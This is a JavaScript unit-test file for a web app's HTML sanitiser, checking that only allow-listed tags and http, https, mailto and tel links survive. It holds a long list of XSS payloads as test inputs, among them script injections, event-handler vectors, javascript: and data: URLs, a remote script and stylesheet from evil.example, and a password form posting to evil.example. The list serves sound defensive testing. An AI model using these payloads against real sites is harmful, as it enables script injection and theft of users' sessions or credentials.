// The allow-list of markup: what goes in, and that nothing else comes out.
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { build, linked, parse, rich, safeHref } from '../../src/web/assets/shared/html.js';

/** The few calls of a document that `build` may make; everything it makes is written down again as text. */
const document = {
  createDocumentFragment: () => node(''),
  createElement: (tag) => node(tag),
  createTextNode: (text) => ({ text, toString: () => escape(text) }),
};

function node(tag) {
  const attributes = {};
  const children = [];
  return {
    tag, attributes, children,
    setAttribute: (name, value) => (attributes[name] = value),
    append: (...more) => children.push(...more.flatMap((child) => (child.tag === '' ? child.children : [child]))),
    toString: () => {
      const inner = children.join('');
      const list = Object.entries(attributes).map(([name, value]) => ` ${name}="${escape(value)}"`).join('');
      return tag === '' ? inner : tag === 'br' ? '<br>' : `<${tag}${list}>${inner}</${tag}>`;
    },
  };
}

const escape = (text) => text.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;').replace(/"/g, '&quot;');
const through = (markup) => String(build(document, parse(markup)));

test('keeps what answers are made of', () => {
  const markup = '<p>On a <strong>7 kW</strong> wallbox: <em>8 hours</em>.<br>See <code>ODO</code></p><ul><li>one</li><li>two</li></ul><ol><li>first</li></ol>';
  assert.equal(through(markup), markup);
  assert.equal(through('<b>x</b><i>y</i>'), '<strong>x</strong><em>y</em>');
  assert.equal(through('গাড়ি &amp; қуат &lt;5 &#2437; &#x4d8; &nbsp;'), 'গাড়ি &amp; қуат &lt;5 অ Ә \u00a0');
});

test('links lead only where a link may lead', () => {
  const rel = 'rel="noopener nofollow ugc" target="_blank"';
  assert.equal(through('<a href="https://a.example/b?c=1&amp;d=2">x</a>'), `<a href="https://a.example/b?c=1&amp;d=2" ${rel}>x</a>`);
  assert.equal(through('<a href="tel:+77273500000">call</a>'), `<a href="tel:+77273500000" ${rel}>call</a>`);
  assert.equal(through('<a href=\'mailto:care@a.example\'>mail</a>'), `<a href="mailto:care@a.example" ${rel}>mail</a>`);
  for (const bad of ['javascript:alert(1)', 'JaVaScRiPt:alert(1)', ' java\tscript:alert(1)', 'java\nscript:alert(1)', '&#106;avascript:alert(1)', '&#x6A;avascript&colon;alert(1)', 'data:text/html,<script>alert(1)</script>', 'vbscript:x', 'file:///etc/passwd', 'blob:https://a/b', '//evil.example', '/relative', 'x', '', 'https://good.example@evil.example/', 'https://user:pw@evil.example/']) {
    assert.equal(through(`<a href="${bad.replace(/"/g, '&quot;')}">x</a>`), '<span>x</span>', bad);
  }
  assert.equal(safeHref(undefined), undefined);
});

const PAYLOADS = [
  '<script>alert(1)</script>', '<SCRIPT SRC=//evil.example/x.js></SCRIPT>', '<script\n>alert(1)</script\n>', '<scr<script>ipt>alert(1)</script>', '<script>alert(1)', '<<script>alert(1)//<</script>',
  '<img src=x onerror=alert(1)>', '<img src="x" onerror="alert(1)"/>', '<IMG """><SCRIPT>alert("XSS")</SCRIPT>">', '<img src=`javascript:alert(1)`>', '<image href=x onerror=alert(1)>', '<picture><source srcset=x onerror=alert(1)></picture>',
  '<svg onload=alert(1)>', '<svg><script>alert(1)</script></svg>', '<svg/onload=alert(1)//', '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>', '<svg><style><img src=x onerror=alert(1)></style></svg>', '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<iframe src="javascript:alert(1)"></iframe>', '<iframe srcdoc="<script>alert(1)</script>"></iframe>', '<object data="javascript:alert(1)"></object>', '<embed src="javascript:alert(1)">', '<base href="https://evil.example/">', '<meta http-equiv=refresh content="0;url=javascript:alert(1)">', '<link rel=stylesheet href=//evil.example>', '<form action=//evil.example><input name=password><button formaction=javascript:alert(1)>x</button></form>',
  '<p onclick=alert(1)>x</p>', '<p style="background:url(javascript:alert(1))">x</p>', '<p id=csrf class=x name=y>x</p>', '<strong onmouseover="alert(1)">x</strong>', '<a href="https://a.example" onclick="alert(1)" style="position:fixed">x</a>', '<a href="javascript:alert(1)">x</a>', '<a HREF=javascript:alert(1)>x</a>', '<a href="https://a.example" href="javascript:alert(1)">x</a>', '<a target=_top href=https://a.example>x</a>', '<li value=1 onfocus=alert(1) tabindex=0 autofocus>x</li>',
  '<style>@import "//evil.example"</style>', '<style><img src="</style><img src=x onerror=alert(1)//">', '<title><img src=x onerror=alert(1)></title>', '<textarea><img src=x onerror=alert(1)></textarea>', '<noscript><p title="</noscript><img src=x onerror=alert(1)>">', '<template><img src=x onerror=alert(1)></template>', '<xmp><img src=x onerror=alert(1)></xmp>', '<plaintext><img src=x onerror=alert(1)>',
  '<!--<img src="--><img src=x onerror=alert(1)//">', '<!--><img src=x onerror=alert(1)>-->', '<!doctype html><script>alert(1)</script>', '<?xml version="1.0"?><script>alert(1)</script>', '<![CDATA[<script>alert(1)</script>]]>', '</p><script>alert(1)</script><p>', '</script><script>alert(1)</script>',
  '<p title="><script>alert(1)</script>">x</p>', "<p title='><img src=x onerror=alert(1)>'>x</p>", '<p "><img src=x onerror=alert(1)>', '<p/x=">"onclick=alert(1)>x</p>', '<a\u0000href="javascript:alert(1)">x</a>', '<\u0000script>alert(1)</script>', '<p\u000bonclick=alert(1)>x', '&lt;script&gt;alert(1)&lt;/script&gt;', '&#60;script&#62;alert(1)', '<video><source onerror=alert(1)></video>', '<details open ontoggle=alert(1)>x</details>', '<dialog open onclose=alert(1)>', '<marquee onstart=alert(1)>x</marquee>', '<isindex action=javascript:alert(1)>', '<frameset onload=alert(1)>', '<body onload=alert(1)>', '<html onclick=alert(1)>', '<x-widget onclick=alert(1)>x</x-widget>', '<constructor>x</constructor>', '<__proto__>x</__proto__>', '<tostring>x</tostring>',
];

test('nothing else comes out', () => {
  const allowed = /^<\/?(?:p|ul|ol|li|strong|em|br|code|span)>$|^<a href="(?:https?|mailto|tel):[^"]*" rel="noopener nofollow ugc" target="_blank">$|^<\/a>$/;
  for (const payload of PAYLOADS) {
    for (const markup of [payload, `<p>${payload}</p>`, `<ul><li>${payload}`, payload.repeat(3)]) {
      const out = through(markup);
      for (const [tag] of out.matchAll(/<[^>]*>/g)) assert.match(tag, allowed, `${markup} gave ${out}`);
    }
  }
});

test('any text ends, in time and in shape', () => {
  const pieces = ['<', '>', '"', "'", '=', '/', '!', '--', '&', ';', '#', 'p', 'a', 'script', 'href', ' ', 'x', '</', '<!--', 'li', '&#x', 'javascript:', 'গ', '🚗'];
  let seed = 42;
  const random = () => (seed = (seed * 1103515245 + 12345) % 2147483648) / 2147483648;
  for (let round = 0; round < 3000; round += 1) {
    let markup = '';
    for (let length = Math.floor(random() * 40); length > 0; length -= 1) markup += pieces[Math.floor(random() * pieces.length)];
    const out = through(markup);
    assert.ok(!/<(?!\/?(?:p|ul|ol|li|strong|em|br|code|a|span)\b)/.test(out), `${markup} gave ${out}`);
  }
  const start = performance.now();
  through('<'.repeat(50_000));
  through('<p '.repeat(30_000));
  through('<strong>'.repeat(30_000));
  through('<a href="'.repeat(20_000));
  assert.ok(performance.now() - start < 5_000, 'no text takes long');
  assert.ok(JSON.stringify(parse('<strong>'.repeat(1_000))).length < 100_000);
});

test('text without markup becomes paragraphs; addresses in words become links', () => {
  assert.equal(String(rich(document, { text: 'one\n\ntwo <b>' })), '<p>one</p><p>two &lt;b&gt;</p>');
  assert.equal(String(rich(document, { html: '<p>x</p>', text: 'y' })), '<p>x</p>');
  const rel = 'rel="noopener nofollow ugc" target="_blank"';
  assert.equal(String(linked(document, 'See https://a.example/x, then <b>. javascript:alert(1)')), `See <a href="https://a.example/x" ${rel}>https://a.example/x</a>, then &lt;b&gt;. javascript:alert(1)`);
  assert.equal(String(linked(document, 'দেখুন https://a.example/খ।')), `দেখুন <a href="${new URL('https://a.example/খ').href}" ${rel}>https://a.example/খ</a>।`);
});
